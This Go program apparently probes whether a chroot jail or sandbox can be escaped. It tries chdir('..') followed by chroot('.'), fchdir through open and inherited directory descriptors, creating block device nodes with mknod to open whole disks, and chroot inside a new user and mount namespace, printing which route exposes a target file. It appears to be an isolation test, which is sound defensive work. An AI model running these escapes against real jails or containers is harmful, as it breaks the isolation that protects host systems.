// Escape is a step that leaves its root: by chroot(2) and `..`, by a device of the whole disk, by a namespace.
//
// It prints `escaped WAY` where it found the file that it was given, outside.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	wanted := os.Args[1]
	look := func(way string) {
		if _, err := os.Stat(wanted); err == nil {
			fmt.Println("escaped", way)
		}
	}
	look("nothing")
	up := func(way string) {
		for step := 0; step < 200; step++ {
			syscall.Chdir("..")
		}
		syscall.Chroot(".")
		look(way)
		if _, err := os.Stat("." + wanted); err == nil {
			fmt.Println("escaped", way, "by a relative path")
		}
	}
	os.Mkdir("/inner", 0o755)
	root, err := os.Open("/")
	fmt.Println("chroot:", syscall.Chroot("/inner"))
	up("chroot")
	if err == nil {
		root.Chdir()
		up("an open folder")
	}
	for fd := 3; fd < 64; fd++ {
		if syscall.Fchdir(fd) == nil {
			up("an inherited folder")
		}
	}
	for major := 0; major < 260; major++ {
		for minor := 0; minor < 4; minor++ {
			name := fmt.Sprintf("/disk-%d-%d", major, minor)
			if syscall.Mknod(name, syscall.S_IFBLK|0o600, major<<8|minor) != nil {
				continue
			}
			if file, err := os.Open(name); err == nil {
				fmt.Println("escaped to the disk", name)
				file.Close()
			}
			os.Remove(name)
		}
	}
	if syscall.Unshare(syscall.CLONE_NEWUSER|syscall.CLONE_NEWNS) == nil {
		fmt.Println("chroot in a namespace:", syscall.Chroot("/inner"))
		up("a namespace")
	}
	fmt.Println("tried")
}
